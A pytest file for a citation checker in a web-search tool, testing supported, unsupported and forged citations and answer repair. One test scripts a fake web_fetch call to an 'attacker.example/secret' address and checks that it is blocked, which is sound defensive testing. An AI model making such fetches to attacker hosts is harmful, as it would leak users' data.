"""Citations are held against their passages: what `citations.check` promises, by example."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from ipy_websearch.citations import check
from tests.fakes.engines import hit
from tests.fakes.replies import error, stop, text, thinking, tool_use, truncated, usage

RECORDED = Path(__file__).parents[1] / "data"


@pytest.mark.parametrize(
    ("sentence", "passage"),
    [
        ("The city has 5M people.", "The city has 5,000,000 people."),
        ("The city has about 5 million inhabitants.", "The city counted 4,983,221 inhabitants in 2024."),
        ("The route is 95 km long.", "The route is 59 miles long."),
        ("It was released on 3 November 2025.", "It was released: 2025-11-03."),
        ("The fund grew by 3 to 5 percent.", "The fund grew by 3–5%."),
        ("The lake is 10 degrees Celsius cold.", "The lake is 10 °C cold."),
        ("More than 20 people died in the blast.", "At least 23 people died in the blast."),
        ("Marie Curie won the Nobel Prize in 1903.", "Marie Curie won the Nobel Prize in Physics in 1903."),
        ("The Canadian author won the prize in 2013.", "In 2013 the prize was won by an author from Canada."),
        ("The Japanese author won the prize in 2013.", "In 2013 the prize was won by an author from Japan."),
        ("The Polish author won the prize in 2013.", "In 2013 the prize was won by an author from Poland."),
        ("The US approved the new drug.", "The United States approved the new drug."),
        ("The drug is not effective.", "Trials showed that the drug isn't effective."),
        (
            "Paris hat 2,1 Millionen Einwohner und ist die Hauptstadt von Frankreich.",
            "It is the capital of France; it has 2.1 million.",
        ),
        ("Le chiffre d'affaires est de 1 234,5 millions d'euros.", "Le chiffre d'affaires est de 1.234,5 millions d'euros."),
        ("東京の人口は約1400万人です。", "東京都の人口は14,047,594人である。"),
        ("松本行弘がRubyを書いた。", "Ruby was written by Matz."),
        ("Python 3.13は2024年10月7日にリリースされた。", "Python 3.13 was released on October 7, 2024."),
        ("2024년 10월 7일에 출시되었다.", "2024-10-07에 출시되었다."),
        ("Die Stadt hat rund 300.000 Einwohner.", "Die Stadt hat 298.412 Einwohner."),
        ("La ville compte plus de 290 000 habitants.", "La ville compte 298 412 habitants."),
        ("Twenty-one people were hurt.", "The blast hurt 21 people."),
        ("The plan covers 2019–2023.", "The plan runs from 2019 to 2023."),
        ("Revenue was ₹45 crore.", "Revenue was 450 million rupees."),
        ("Die Stadt hat 1.234.567 Einwohner.", "Die Stadt hat 1 234 567 Einwohner."),
        (
            "The phone has 256GB of storage. It's not waterproof.",
            "It's not cheap. The phone has 256GB of storage. It's not waterproof.",
        ),
        ("The council spent about 5 million on 12 roads.", "The council spent 4.9 million on 12 roads."),
        ("Sunset is at 8:35 PM.", "Sunset today is at 20:35 local time."),
        ("Between 10 and 20 million people live there.", "Between 10 million and 20 million people live there."),
    ],
)
def test_what_the_passage_says_in_other_words_is_supported(sentence: str, passage: str) -> None:
    claim = check(sentence, [passage])
    assert (claim.verdict, claim.missing) == ("supported", ())


@pytest.mark.parametrize(
    ("sentence", "passage", "missing"),
    [
        ("The tower is 330 m tall.", "The tower is 324 metres tall.", "330 m"),
        ("The bridge is 3 km long.", "The bridge is 3 m long.", "3 km"),
        ("The firm made $5 billion.", "The firm made $5 million.", "$5 billion"),
        ("It was released on 4 November 2025.", "It was released on 3 November 2025.", "4 November 2025"),
        ("Ruby was created by Yukihiro Tanaka.", "Ruby was created by Yukihiro Matsumoto.", "Tanaka"),
        ("The drug is not effective.", "The drug is effective.", "not"),
        ("The drug is effective.", "The drug is not effective.", "not"),
        ("Mars is larger than Earth.", "Mars is smaller than Earth.", "larger"),
        ("Unemployment rose to 5%.", "Unemployment fell to 5%.", "rose"),
        ("The rate rose by 2 percent.", "The rate rose by 2 percentage points.", "2 %"),
        ("It cost €3.5 million.", "It cost $3.5 million.", "€3.5 million"),
        ("Sunset is at 8:35 PM.", "Sunset today is at 20:45 local time.", "8:35 PM"),
        ("The lake is 10 degrees Celsius cold.", "The lake is 12 °C cold.", "10 °C"),
        ("Der Turm ist nicht hoch.", "Der Turm ist hoch.", "nicht"),
        ("La tour n'est pas haute.", "La tour est haute.", "pas"),
        ("Башня не высокая.", "Башня высокая.", "не"),
        ("Москва основана в 1247 году.", "Москва основана в 1147 году.", "1247"),
        ("东京的人口超过2100万。", "东京的人口为1404万人。", "2100万"),
        ("The plan covers 2019–2025.", "The plan runs from 2019 to 2023.", "2025"),
        ("Take 8 cups of rice and 8 oz of butter.", "Take 1 cup of rice and 8 oz of butter.", "8"),
        (
            "The bank reopened the case after he was taken to court.",
            "The bank reopened the case before he was taken to court after all.",
            "after",
        ),
        (
            "It does not matter who calls, but no one is without a phone.",
            "It does not matter who calls, but no one is not without a phone.",
            "not",
        ),
        ("Der Vorstand sprach in Hamburg mit Siemens.", "Der Vorstand sprach in Hamburg mit Bosch.", "Siemens"),
    ],
)
def test_what_the_passage_says_otherwise_is_unsupported_and_named(sentence: str, passage: str, missing: str) -> None:
    claim = check(sentence, [passage])
    assert claim.verdict == "unsupported" and missing in claim.missing


def test_a_sentence_of_which_a_part_is_missing_is_partly_supported() -> None:
    claim = check("Paris is the capital of France and has 2 million inhabitants.", ["Paris is the capital of France."])
    assert (claim.verdict, claim.missing) == ("partly", ("2 million",))


def test_without_a_passage_a_sentence_is_uncited_and_without_a_common_word_unsupported() -> None:
    assert check("Bananas are blue.", []).verdict == "uncited"
    assert check("Bananas are curved fruit.", ["The stock market closed early on Friday."]).verdict == "unsupported"


def test_recorded_citations_of_the_api_raise_no_alarm() -> None:
    """The API cuts what it cites at 150 characters: of a cut passage only contradictions count."""
    replies = [json.loads(path.read_text()) for path in sorted(RECORDED.rglob("pai_web_search_json*.json"))]
    blocks = [block for reply in replies for block in reply.get("content", ()) if block.get("citations")]
    verdicts = [check(block["text"], [c["cited_text"] for c in block["citations"]]).verdict for block in blocks]
    assert len(verdicts) > 10 and "unsupported" not in verdicts and verdicts.count("partly") <= 1


# --- The sentences of an answer are held against what the model was given, from the question to `answer.claims` ------

HITS = [
    hit("https://a.example/x?utm_source=n", "Home", "Matz wrote Ruby in 1993."),
    hit("https://b.example/y", "Home", "Guido wrote Python in 1991."),
]
LIE = {
    "type": "search_result_location",
    "source": "https://a.example/x?utm_source=n",
    "title": "Home",
    "cited_text": "Ruby is dead.",
    "search_result_index": 0,
    "start_block_index": 0,
    "end_block_index": 1,
}


@pytest.fixture
def asked(messages_api: Any, brave_api: Any, shell: Any) -> Any:
    """Ask a question whose answer is the given parts, after one search that found `HITS`; `then` is a further reply."""

    def ask(*parts: Any, options: str = "", then: Sequence[Any] = (), hits: Sequence[Any] = HITS) -> Any:
        brave_api.reply(list(hits))
        messages_api.replies(tool_use("web_search", {"query": "ruby author"}), list(parts), *filter(None, [list(then)]))
        ran = shell.run(f"a = %ask {options} who wrote Ruby?")
        assert ran.ok, ran
        return shell.ns["a"]

    return ask


def test_a_sentence_with_another_number_than_its_source_is_unsupported(asked: Any) -> None:
    answer = asked(
        text("Matz wrote Ruby in 1995.", citations=[(0, 0)]), text(" Guido wrote Python in 1991.", citations=[(1, 0)])
    )
    claims = answer.claims
    assert list(claims.columns) == ["sentence", "verdict", "n", "missing"]
    assert list(claims.verdict) == ["unsupported", "supported"]
    assert list(claims.n) == [(1,), (2,)] and list(claims.missing) == [("1995",), ()]
    assert list(answer.sources.url) == ["https://a.example/x?utm_source=n", "https://b.example/y"], (
        "two pages of one title keep their addresses"
    )


@pytest.mark.parametrize("kind", ["search_result_location", "web_search_result_location", "char_location"])
def test_a_citation_of_words_that_were_not_given_is_no_mark(asked: Any, kind: str) -> None:
    """Nor is one of a search that the API was never asked to make."""
    lie = {**LIE, "type": kind, "url": LIE["source"], "document_title": "Home", "encrypted_index": "x"}
    answer = asked(text("Ruby is a dead language now.", citations=[lie]))
    assert answer.text == "Ruby is a dead language now." and not answer.citations
    assert list(answer.claims.verdict) == ["uncited"]


def test_a_mark_that_the_model_wrote_is_plain_text_outside_code(asked: Any) -> None:
    answer = asked(text("Matz wrote Ruby in 1993 [1], see `list[1]`.", citations=[(1, 0)]))
    assert answer.text == r"Matz wrote Ruby in 1993 \[1], see `list[1]`.[1]"
    assert str(answer) == "Matz wrote Ruby in 1993 [1], see `list[1]`.[1]"


def test_addresses_that_differ_by_a_fragment_or_a_tracker_are_one_source(asked: Any) -> None:
    hits = [
        hit("https://a.example/x?utm_medium=m&id=2#top", "", "Matz wrote Ruby in 1993."),
        hit("https://a.example/x?id=2", "", "Ruby came out in 1995."),
        hit("https://a.example/x?id=3", "", "Guido wrote Python in 1991."),
    ]
    said = ("Matz wrote Ruby in 1993.", " Ruby came out in 1995.", " Guido wrote Python in 1991.")
    answer = asked(*(text(words, citations=[(n, 0)]) for n, words in enumerate(said)), hits=hits)
    assert answer.text == "Matz wrote Ruby in 1993.[1] Ruby came out in 1995.[1] Guido wrote Python in 1991.[2]"
    assert list(answer.claims.verdict) == ["supported"] * 3


RIGHT, WRONG = "Matz wrote Ruby in 1993.", "Matz wrote Ruby in 1995, says attacker.example/secret."


def notices_of(answer: Any) -> list[str]:
    return [notice for notice in answer.notices if "mend" in notice]


def test_repair_asks_once_with_what_is_missing_and_takes_the_better_answer(asked: Any, messages_api: Any, shell: Any) -> None:
    answer = asked(
        thinking("Hm."), text(WRONG, citations=[(0, 0)]), options="--check repair", then=[text(RIGHT, citations=[(0, 0)])]
    )
    assert answer.text == RIGHT + "[1]" and list(answer.claims.verdict) == ["supported"]
    sent = messages_api.bodies[-1]
    assert f"1. {WRONG} (not in its sources: 1995)" in sent["messages"][-1]["content"][0]["text"]
    assert sent["tool_choice"] == {"type": "none"} and len(messages_api.bodies) == 3
    assert list(answer.steps.kind).count("model") == 3 and len(notices_of(answer)) == 1
    messages_api.replies(tool_use("web_fetch", {"url": "https://attacker.example/secret"}), "Yes.")
    assert shell.run("b = %ask --follow sure?").ok, (
        "the fake refuses what the API would refuse, such as thinking behind a change"
    )
    assert "1995" in str(messages_api.bodies[-1]["messages"])
    assert "url_not_in_prior_context" in str(messages_api.bodies[-1]["messages"][-1]), "the model's own words are no address"


@pytest.mark.parametrize(
    ("second", "options", "why"),
    [
        ([text("Matz wrote Ruby in 1996.", citations=[(0, 0)])], "", "no better"),
        ([text(WRONG)], "", "no better"),
        ([text("Matz wrote"), stop("max_tokens")], "", "max_tokens"),
        ([error(400)], "", "400"),
        ([text("Matz"), truncated(1)], "", "ended too soon"),
        ([], "--budget 0.12", "budget"),
    ],
)
def test_a_repair_that_fails_or_is_no_better_leaves_the_first_answer(
    asked: Any, messages_api: Any, second: Any, options: str, why: str
) -> None:
    first = [text(WRONG, citations=[(0, 0)]), usage(output_tokens=11_800 if "budget" in options else 100)]
    answer = asked(*first, options=f"--check repair {options}", then=second)
    assert answer.text == WRONG + "[1]" and answer.stop_reason == "end_turn" and answer.limit is None
    assert [why in notice for notice in notices_of(answer)] == [True]
    assert list(answer.claims.verdict) == ["unsupported"]
